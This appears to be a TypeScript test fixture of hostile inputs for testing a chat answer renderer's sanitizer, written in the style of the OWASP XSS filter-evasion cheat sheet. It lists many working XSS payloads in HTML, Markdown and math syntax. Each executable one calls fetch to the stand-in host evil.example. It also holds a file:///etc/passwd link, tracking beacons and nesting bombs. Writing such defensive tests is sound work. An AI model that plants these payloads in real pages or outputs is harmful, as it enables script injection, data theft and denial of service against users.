/**
 * Hostile model answers, in the spirit of the OWASP XSS filter-evasion cheat sheet, written as
 * Markdown and as raw HTML. Shared by the unit tests (which inspect the rendered HTML) and the
 * Chromium test page (which renders them through the real component and watches for effects).
 *
 * Every executable payload does the same observable things: sets `window.__xss`, calls alert()
 * and asks a foreign host for a URL. Everything points at `evil.example`, a reserved name.
 */

export type HostileCase = { name: string; source: string };

/** What a payload does when it runs. */
export const js = "window.__xss=1;alert(1);fetch('http://evil.example/leak')";
export const foreignHost = 'evil.example';
const ev = `http://${foreignHost}`;
const b64Script = btoa(`<script>${js}</script>`);

const deepQuotes = '>'.repeat(5000) + ' deep';
const deepList = Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n');
const deepEmphasis = '*a '.repeat(3000) + 'x' + ' a*'.repeat(3000);
const deepLinks = '['.repeat(5000) + 'x' + '](https://ok.example)'.repeat(5000);

export const hostileCases: HostileCase[] = [
	{ name: 'script tag', source: `<script>${js}</script>` },
	{ name: 'script src upper case', source: `<SCRIPT SRC=${ev}/xss.js></SCRIPT>` },
	{ name: 'script split by angle', source: `<<script>${js};//<</script>` },
	{ name: 'img onerror', source: `<img src=x onerror="${js}">` },
	{ name: 'img javascript src', source: `<img src="javascript:${js}">` },
	{ name: 'img backtick src', source: `<IMG SRC=\`javascript:${js}\`>` },
	{ name: 'img malformed quotes', source: `<img """><script>${js}</script>">` },
	{ name: 'svg onload', source: `<svg onload="${js}">` },
	{ name: 'svg script', source: `<svg><script>${js}</script></svg>` },
	{ name: 'svg xlink href', source: `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">x</text></a></svg>` },
	{ name: 'body onload', source: `<body onload="${js}">` },
	{ name: 'details ontoggle', source: `<details open ontoggle="${js}"><summary>x</summary></details>` },
	{ name: 'input autofocus', source: `<input autofocus onfocus="${js}">` },
	{ name: 'video source onerror', source: `<video><source onerror="${js}"></video>` },
	{ name: 'custom tag onclick', source: `<x onclick="${js}">click</x>` },
	{ name: 'iframe javascript', source: `<iframe src="javascript:${js}"></iframe>` },
	{ name: 'iframe srcdoc', source: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
	{ name: 'object data', source: `<object data="data:text/html;base64,${b64Script}"></object>` },
	{ name: 'embed src', source: `<embed src="${ev}/x.swf">` },
	{ name: 'form action', source: `<form action="javascript:${js}"><input type="submit" value="Go"></form>` },
	{ name: 'button formaction', source: `<button formaction="javascript:${js}">x</button>` },
	{ name: 'meta refresh', source: `<meta http-equiv="refresh" content="0;url=javascript:${js}">` },
	{ name: 'base href', source: `<base href="${ev}/">` },
	{ name: 'link stylesheet', source: `<link rel="stylesheet" href="${ev}/x.css">` },
	{ name: 'style import', source: `<style>@import '${ev}/x.css';</style>` },
	{ name: 'style attribute url', source: `<div style="background:url(${ev}/beacon)">x</div>` },
	{ name: 'css expression', source: `<div style="width: expression(${js})">x</div>` },
	{ name: 'raw anchor javascript', source: `<a href="javascript:${js}">x</a>` },
	{ name: 'raw anchor onclick', source: `<a href="https://ok.example" onclick="${js}">x</a>` },
	{ name: 'forged image button', source: `<button class="md-image-load" data-md-src="javascript:${js}">x</button>` },
	{ name: 'comment trick', source: `<!--<img src="--><img src=x onerror="${js}"//">` },
	{ name: 'mxss math style', source: `<math><mtext><table><mglyph><style><img src=x onerror="${js}">` },
	{ name: 'mxss noscript', source: `<noscript><p title="</noscript><img src=x onerror='${js}'>">` },
	{ name: 'md link javascript', source: `[click](javascript:${js})` },
	{ name: 'md link mixed case', source: `[click](JaVaScRiPt:${js})` },
	{ name: 'md link tab entity', source: `[click](jav&#x09;ascript:${js})` },
	{ name: 'md link newline entity', source: `[click](java&#10;script:${js})` },
	{
		name: 'md link all entities',
		source: `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js})`
	},
	{ name: 'md link named colon', source: `[click](javascript&colon;${js})` },
	{ name: 'md link angle brackets', source: `[click](<javascript:${js}>)` },
	{ name: 'md link leading space', source: `[click](   javascript:${js})` },
	{ name: 'md autolink javascript', source: `<javascript:${js}>` },
	{ name: 'md reference link', source: `[click][ref]\n\n[ref]: javascript:${js}` },
	{ name: 'md link data html', source: `[click](data:text/html;base64,${b64Script})` },
	{ name: 'md link vbscript', source: `[click](vbscript:msgbox(1))` },
	{ name: 'md link file', source: '[click](file:///etc/passwd)' },
	{ name: 'md link protocol relative', source: `[click](//${foreignHost}/x)` },
	{ name: 'md link credentials', source: `[bank](https://bank.example@${foreignHost}/)` },
	{ name: 'md link title breakout', source: `[x](https://ok.example "\\" onmouseover=\\"${js}")` },
	{ name: 'md link text with html', source: `[<img src=x onerror="${js}">](https://ok.example)` },
	{ name: 'md image javascript', source: `![x](javascript:${js})` },
	{ name: 'md image svg data', source: `![x](data:image/svg+xml;base64,${btoa(`<svg onload="${js}"/>`)})` },
	{ name: 'md image beacon', source: `![tracking pixel](${ev}/beacon.png)` },
	{ name: 'md image inside link', source: `[![img](${ev}/i.png)](${ev}/)` },
	{ name: 'md image alt breakout', source: `![" onerror="${js}](${ev}/a.png)` },
	{ name: 'fence breakout', source: '```html\n</code></pre><script>' + js + '</script>\n```' },
	{ name: 'inline code breakout', source: '`</code><script>' + js + '</script>`' },
	{ name: 'fence info injection', source: '```"><img src=x onerror=' + js + '>\nx\n```' },
	{ name: 'math href', source: `$\\href{javascript:${js}}{click}$` },
	{ name: 'math url', source: `$\\url{javascript:${js}}$` },
	{
		name: 'math html extensions',
		source: `$\\htmlClass{md-image-load}{a}\\htmlId{x}{b}\\htmlStyle{background:url(${ev}/m)}{c}\\htmlData{onclick=x}{d}$`
	},
	{ name: 'math includegraphics', source: `$$\\includegraphics[height=1em]{${ev}/g.png}$$` },
	{ name: 'math text breakout', source: `$$\n\\text{</math><img src=x onerror="${js}">}\n$$` },
	{
		name: 'math color injection',
		source: `$\\color{red;background:url(${ev}/c)}{x}$ and $\\textcolor{#f00" onload="x}{y}$`
	},
	{
		name: 'math macro bomb',
		source: '$$\\def\\a{\\a\\a}\\a$$ and $\\def\\b#1{#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}}}}$'
	},
	{ name: 'math huge rule', source: '$\\rule{100000em}{100000em}\\hspace{100000em}$' },
	{ name: 'nested quotes bomb', source: deepQuotes },
	{ name: 'nested list bomb', source: deepList },
	{ name: 'nested emphasis bomb', source: deepEmphasis },
	{ name: 'nested link brackets', source: deepLinks },
	{ name: 'oversized answer', source: `<script>${js}</script>\n`.repeat(12_000) }
];
